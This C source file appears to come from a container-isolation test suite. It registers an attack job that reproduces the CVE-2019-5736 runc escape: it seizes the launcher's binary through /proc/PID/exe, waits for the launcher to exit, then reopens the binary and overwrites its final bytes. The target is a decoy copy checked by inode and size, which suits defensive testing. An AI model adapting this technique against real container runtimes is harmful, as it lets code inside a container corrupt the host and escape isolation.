/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * The launcher's program, rewritten from inside (CVE-2019-5736): takes hold of
 * the file through /proc/PID/exe of a launcher that has come in, waits until it
 * no longer runs, opens what it holds for writing and writes over its last
 * bytes, a random token. The file is the witness's copy, known by its process's
 * name, device, inode and size, and no other is opened for writing.
 */
#include "common/cleanup.h"
#include "isolation-tests/decoys/decoy-program.h"
#include "isolation-tests/say.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>

#define WAIT_NS (3 * NS_PER_S)

/* The program's process, as far as it is to be seen from here. */
static int is_named(int pid, const char *name)
{
	char path[64], found[SEAL_TEXT] = "";
	cleanup_file FILE *file = NULL;

	snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
	file = fopen(path, "re");
	return pid > 0 && file &&
	       fread(found, 1, sizeof(found) - 1, file) == strlen(name) &&
	       !strcmp(found, name);
}

static int is_the_copy(int fd, const json_t *program)
{
	struct stat st;

	return fstat(fd, &st) == 0 &&
	       (int64_t)st.st_dev == json_int(program, "device", -1) &&
	       (int64_t)st.st_ino == json_int(program, "inode", -1) &&
	       (int64_t)st.st_size == json_int(program, "size", -1);
}

/* Hold the file; negative with the reason. */
static int take_hold(const json_t *program, struct error *err)
{
	int pid = (int)json_int(program, "pid", 0);
	cleanup_close int fd = -1;
	char path[64];

	if (!is_named(pid, json_text(program, "name", "?")))
		return error_make(err, 0,
				  "the launcher's process is not to be seen");
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return error_make(err, errno, "its program can't be opened");
	if (!is_the_copy(fd, program))
		return error_make(err, 0, "its program is another file");
	return steal_fd(&fd);
}

static int write_over(int held, int64_t size, struct error *err)
{
	char path[64], bytes[DECOY_PROGRAM_TOKEN];
	cleanup_close int fd = -1;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return error_make(err, errno,
				  "its program can't be opened for writing");
	memset(bytes, '!', sizeof(bytes));
	if (pwrite(fd, bytes, sizeof(bytes), size - DECOY_PROGRAM_TOKEN) !=
	    sizeof(bytes))
		return error_make(err, errno, "its program can't be written");
	return 0;
}

/* Tell the witness, and wait for its answer. New reference or NULL. */
static json_t *ask(struct job_context *context, const char *name,
		   const char *answer)
{
	if (job_event(context, name, NULL, NULL) < 0)
		return NULL;
	return job_wait(context, answer, clock_now() + WAIT_NS);
}

static int rewrite(struct job_context *context, const json_t *program,
		   struct error *err)
{
	cleanup_close int held = take_hold(program, err);

	if (held < 0)
		return -1;
	json_decref(ask(context, "holding", "ended"));
	return write_over(held, json_int(program, "size", 0), err);
}

static int run(struct job_context *context, struct error *err)
{
	const json_t *witness = json_object_get(context->params, "witness");
	const char *name = json_text(witness, "name", NULL);
	cleanup_json json_t *program = NULL;
	struct error why = {0};
	char own[16];

	(void)err;
	if (!name)
		return say_unable(context, "there is no witness beside it");
	prctl(PR_GET_NAME, own);
	prctl(PR_SET_NAME, name);
	program = ask(context, "here", "started");
	prctl(PR_SET_NAME, own);
	if (!program)
		return say_unable(context, "no launcher came in");
	if (rewrite(context, program, &why) < 0)
		return say_attempt(context, "no_effect", "%s", why.message);
	return say_attempt(context, "done", "its last bytes were written over");
}

static const struct attack attack = {
	.boundary = "the launcher's program, which runs outside",
	.threatens = THREAT_INTEGRITY,
	.witness = "launcher-rewrite.witness",
};

static const struct job launcher_rewrite = {
	.name = "launcher-rewrite",
	.title = "The launcher's program, rewritten from inside",
	.reference = "CVE-2019-5736",
	.kind = JOB_ATTACK,
	.deadline = 10 * NS_PER_S,
	.attack = &attack,
	.run = run,
};
JOB_REGISTER(launcher_rewrite)
